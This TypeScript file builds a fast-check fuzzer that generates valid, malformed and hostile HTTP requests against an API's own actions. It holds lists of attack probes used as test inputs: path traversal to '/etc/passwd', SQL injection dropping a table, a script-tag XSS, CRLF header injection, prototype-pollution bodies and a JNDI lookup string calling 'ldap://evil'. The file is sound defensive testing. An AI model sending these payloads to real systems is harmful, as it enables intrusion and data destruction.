import fc from 'fast-check';
import type { AnyAction } from '../kernel/action/action.ts';

/** The part of JSON Schema that our actions use. */
interface Schema {
  type?: string;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  items?: Schema;
  properties?: Record<string, Schema>;
  required?: string[];
}

/** One request of the fuzzer. */
export interface FuzzedRequest {
  operation: string;
  method: AnyAction['spec']['method'];
  url: string;
  headers: Record<string, string>;
  /** JSON text, or what passes for it. */
  payload: string | undefined;
}

const TEXT_CHARS_MAX = 60;

/** What nobody should send, and somebody will. */
const HOSTILE: unknown[] = [
  null,
  true,
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u2066',
  '𝕬'.repeat(50),
  '../../etc/passwd',
  '..%2f..%2f',
  "'; drop table identity.person; --",
  '${7*7}',
  '<script>alert(1)</script>',
  'x\r\nset-cookie: a=b',
  '__proto__',
  'constructor',
  'NaN',
  '-0',
  -0,
  -1,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 53,
  2 ** 63,
  0.1,
  'a'.repeat(5_000),
  [],
  {},
  [[[[[[[[[[]]]]]]]]]],
  { $ne: null },
  { toString: 'x' },
  Array.from({ length: 200 }, (_, i) => i),
];
const hostile = fc.constantFrom(...HOSTILE);

/** Values that fit a schema, with its limits as likely as what lies between. */
function fitting(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((each) => fitting(each)));
  switch (schema.type) {
    case 'string':
      return text(schema);
    case 'integer':
      return fc.integer(range(schema));
    case 'number':
      return fc.double({ ...range(schema), noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(fitting(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 8, Math.max(8, schema.minItems ?? 0)),
      });
    case 'object':
      return record(schema);
    default:
      return fc.jsonValue();
  }
}

function text({ format, pattern, minLength = 0, maxLength = TEXT_CHARS_MAX }: Schema) {
  if (format === 'uuid') return fc.uuid();
  if (format === 'date-time') return fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
  if (pattern !== undefined) return fc.stringMatching(new RegExp(pattern, 'u'), { maxLength: 80 });
  const limits = { minLength, maxLength: Math.min(maxLength, Math.max(minLength, TEXT_CHARS_MAX)) };
  return fc.oneof(fc.string(limits), fc.string({ ...limits, unit: 'binary' }));
}

function range({ minimum = -(2 ** 31), maximum = 2 ** 31 - 1 }: Schema) {
  return { min: minimum, max: maximum };
}

function record({ properties = {}, required = [] }: Schema): fc.Arbitrary<Record<string, unknown>> {
  const parts = Object.fromEntries(
    Object.entries(properties).map(([name, schema]) => [name, fitting(schema)]),
  );
  return fc.record(parts, { requiredKeys: required });
}

/** An object that fits, or one with a property made hostile, left out, or added. */
function bent(schema: Schema | undefined): fc.Arbitrary<Record<string, unknown>> {
  if (!schema) return fc.constant({});
  const names = Object.keys(schema.properties ?? {});
  const one = names.length > 0 ? fc.constantFrom(...names) : fc.constant('extra');
  const whole = record(schema);
  return fc.oneof(
    { arbitrary: whole, weight: 3 },
    { arbitrary: fc.tuple(whole, one, hostile).map(([object, name, value]) => ({ ...object, [name]: value })), weight: 4 },
    { arbitrary: fc.tuple(whole, one).map(([object, name]) => without(object, name)), weight: 1 },
    { arbitrary: fc.tuple(whole, hostile).map(([object, value]) => ({ ...object, extra: value })), weight: 1 },
  );
}

function without(object: Record<string, unknown>, name: string): Record<string, unknown> {
  return Object.fromEntries(Object.entries(object).filter(([key]) => key !== name));
}

/** What is sent as a body: JSON of all kinds, and what is none. */
function bodyText(schema: Schema | undefined): fc.Arbitrary<string | undefined> {
  if (!schema) return fc.constantFrom(undefined, undefined, '{}', '{"a":1}', 'null');
  return fc.oneof(
    { arbitrary: bent(schema).map((value) => JSON.stringify(value)), weight: 8 },
    { arbitrary: hostile.map((value) => JSON.stringify(value)), weight: 1 },
    {
      arbitrary: fc.constantFrom(
        undefined,
        '',
        '{',
        '{"__proto__":{"admin":true}}',
        '{"constructor":{"prototype":{"admin":true}}}',
        `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
        `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
        '"\ud800"',
        '1e999',
        `{"a":"${'a'.repeat(70_000)}"}`,
      ),
      weight: 2,
    },
  );
}

const headers: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { arbitrary: fc.constant({}), weight: 5 },
  {
    arbitrary: fc.constantFrom(
      { 'idempotency-key': 'x'.repeat(129) },
      { 'idempotency-key': 'a\u00e9b with spaces' },
      { 'x-request-id': '${jndi:ldap://evil}' },
      { 'if-none-match': 'W/"' },
      { 'accept-encoding': 'br;q=0, *;q=0' },
      { 'content-type': 'application/json; charset=utf-16' },
      { 'content-type': 'text/html' },
      { 'content-encoding': 'gzip' },
      { cookie: `refresh=${'%'.repeat(200)}; ;=;a` },
      { 'x-forwarded-for': 'not an address, 1.2.3.4' },
      { origin: 'http://[::' },
      { 'user-agent': 'a'.repeat(3_000) },
    ),
    weight: 1,
  },
);

const PATH_TRICKS = ['..', '%2e%2e%2f', '%00', '%', '%zz', '%c0%af', '%ff', '+', '*', 'a%2fb', '%0d%0a', '😀'];

/** A part of a path: what fits, what fits not, and what tries to leave. */
function pathPart(schema: Schema | undefined): fc.Arbitrary<string> {
  const encoded = (value: unknown) => encodeURIComponent(String(value).toWellFormed()) || '%20';
  return fc.oneof(
    { arbitrary: fitting(schema ?? {}).map(encoded), weight: 4 },
    { arbitrary: hostile.map(encoded), weight: 2 },
    { arbitrary: fc.constantFrom(...PATH_TRICKS), weight: 1 },
  );
}

function queryText(schema: Schema | undefined): fc.Arbitrary<string> {
  const pairs = bent(schema).map((object) =>
    Object.entries(object)
      .map(([name, value]) => `${name}=${encodeURIComponent(String(value).toWellFormed())}`)
      .join('&'),
  );
  const tricks = fc.constantFrom('', '__proto__[a]=b', 'limit=1&limit=2', 'cursor=%', 'a[b]=c', '&&==', 'cursor=W10', 'cursor=WzFd', 'cursor=WyJhIiwxXQ', `cursor=${'A'.repeat(500)}`);
  return fc.oneof({ arbitrary: pairs, weight: 3 }, { arbitrary: tricks, weight: 2 });
}

/** Requests to one action, from proper to hostile. */
export function requestsTo({ spec }: AnyAction): fc.Arbitrary<FuzzedRequest> {
  const params = (spec.params ?? {}) as Schema;
  const names = [...spec.path.matchAll(/:(\w+)/g)].map(([, name]) => name ?? '');
  const parts = fc.tuple(...names.map((name) => pathPart(params.properties?.[name])));
  return fc
    .tuple(parts, queryText(spec.query as Schema | undefined), bodyText(spec.body as Schema | undefined), headers)
    .map(([values, query, payload, more]) => {
      let i = 0;
      const path = spec.path.replace(/:\w+/g, () => values[i++] ?? '');
      const type = payload === undefined ? {} : { 'content-type': 'application/json' };
      return {
        operation: spec.operation,
        method: spec.method,
        url: `/api${path}${query ? `?${query}` : ''}`,
        headers: { ...type, ...more },
        payload: spec.method === 'GET' ? undefined : payload,
      };
    });
}
